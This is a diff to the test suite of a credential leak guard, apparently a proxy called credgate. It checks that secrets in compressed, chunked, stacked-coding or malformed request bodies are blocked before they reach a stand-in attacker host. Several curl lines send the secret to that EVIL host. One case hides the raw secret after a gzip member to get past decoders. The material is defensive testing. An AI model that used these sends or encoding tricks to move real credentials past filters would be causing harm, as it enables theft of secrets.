@@ -93,7 +93,7 @@ afterAll(async () => {
 async function startTrailerOrigin(p: TestPki): Promise<{ port: number; trailers: Record<string, string>[]; close(): void }> {
   const trailers: Record<string, string>[] = [];
   const server = http2.createSecureServer({ cert: readFileSync(p.certFile), key: readFileSync(p.keyFile), allowHTTP1: false });
-  server.on("stream", (stream, headers) => {
+  server.on("stream", (stream: http2.ServerHttp2Stream, headers: http2.IncomingHttpHeaders) => {
     stream.on("error", () => {});
     stream.on("trailers", (t: http2.IncomingHttpHeaders) => trailers.push(Object.fromEntries(Object.entries(t).map(([k, v]) => [k, String(v)]))));
     stream.resume();
@@ -314,7 +314,9 @@ describe("credential leak guard: h2 request trailers", () => {
 });
 
 describe("credential leak guard: encoded request bodies", () => {
-  const json = Buffer.from(JSON.stringify({ note: "hello", key: LEAK }));
+  // Enough text that every encoder compresses it: the value is not in the encoded bytes as it is.
+  const words = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod".split(" ");
+  const json = Buffer.from(JSON.stringify({ note: Array.from({ length: 400 }, (_, i) => words[(i * 7) % words.length]).join(" "), key: LEAK }));
   const encodings: [string, (b: Buffer) => Buffer][] = [
     ["gzip", gzipSync],
     ["deflate", deflateSync],
@@ -338,10 +340,10 @@ describe("credential leak guard: encoded request bodies", () => {
     });
   }
 
-  test("stacked codings (gzip, then br) are decoded in turn", async () => {
-    const path = `/enc/stacked/${crypto.randomUUID()}`;
-    const file = writeBody("stacked.bin", brotliCompressSync(gzipSync(json)));
-    const r = await curl(["-H", "content-encoding: gzip, br", "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
+  test("the value raw after the end of a gzip member (which a decoder may skip as trailing bytes): the wire is read too", async () => {
+    const path = `/enc/trailing/${crypto.randomUUID()}`;
+    const file = writeBody("trailing.bin", Buffer.concat([gzipSync(Buffer.from("harmless")), Buffer.from(LEAK)]));
+    const r = await curl(["-H", "content-encoding: gzip", "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
     expect(JSON.parse(r.stdout)).toEqual(leakBlocked(EVIL));
     expect(up.seen.filter((s) => s.url === path && s.bodyBytes > 0)).toEqual([]);
   });
@@ -367,14 +369,14 @@ describe("credential leak guard: encoded request bodies", () => {
     const file = writeBody("large.gz", gz);
     let received = 0;
     let complete = false;
-    up.handle(async (req) => {
-      if (new URL(req.url).pathname !== path) return undefined;
+    const drain = async (req: Request) => {
       try {
         for await (const chunk of req.body!) received += chunk.byteLength;
         complete = true;
       } catch {}
       return new Response("read");
-    });
+    };
+    up.handle((req) => (new URL(req.url).pathname === path ? drain(req) : undefined));
     const r = await curl(["-H", "content-encoding: gzip", "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
     up.handle(() => undefined);
     expect(r.stdout).toContain("credential_leak_blocked");
@@ -389,18 +391,20 @@ describe("credential leak guard: encoded request bodies", () => {
     const chunked = `/enc/aws/${crypto.randomUUID()}`;
     const r2 = await curl(["-H", "content-encoding: aws-chunked", "--data-binary", `k=${LEAK}`, `https://${EVIL}:${up.port}${chunked}`]);
     expect(JSON.parse(r2.stdout)).toEqual(leakBlocked(EVIL));
-    const odd = `/enc/compress/${crypto.randomUUID()}`;
-    const r3 = await curl(["-i", "-H", "content-encoding: compress", "--data-binary", "anything", `https://${EVIL}:${up.port}${odd}`]);
-    expect(r3.stdout).toStartWith("HTTP/1.1 415");
-    expect(JSON.parse(r3.stdout.slice(r3.stdout.indexOf("\r\n\r\n") + 4))).toEqual({
-      error: "unsupported_content_encoding",
-      message: "credgate cannot read a request body encoded as compress; send it uncompressed or as gzip",
-    });
-    expect(up.seen.some((s) => s.url === odd)).toBe(false);
+    for (const coding of ["compress", "gzip, br"]) {
+      const odd = `/enc/odd/${crypto.randomUUID()}`;
+      const r3 = await curl(["-i", "-H", `content-encoding: ${coding}`, "--data-binary", "anything", `https://${EVIL}:${up.port}${odd}`]);
+      expect(r3.stdout).toMatch(/\r\nHTTP\/[\d.]+ 415 /);
+      expect(JSON.parse(r3.stdout.slice(r3.stdout.lastIndexOf("\r\n\r\n") + 4))).toEqual({
+        error: "unsupported_content_encoding",
+        message: `credgate cannot read a request body encoded as ${coding}; send it uncompressed or as gzip`,
+      });
+      expect(up.seen.some((s) => s.url === odd)).toBe(false);
+    }
     // A body that is not what its coding says cannot be read either.
     const broken = `/enc/broken/${crypto.randomUUID()}`;
     const r4 = await curl(["-i", "-H", "content-encoding: gzip", "--data-binary", "not gzip at all", `https://${EVIL}:${up.port}${broken}`]);
-    expect(r4.stdout).toStartWith("HTTP/1.1 415");
+    expect(r4.stdout).toMatch(/\r\nHTTP\/[\d.]+ 415 /);
     expect(up.seen.filter((s) => s.url === broken && s.bodyBytes > 0)).toEqual([]);
   });
 });
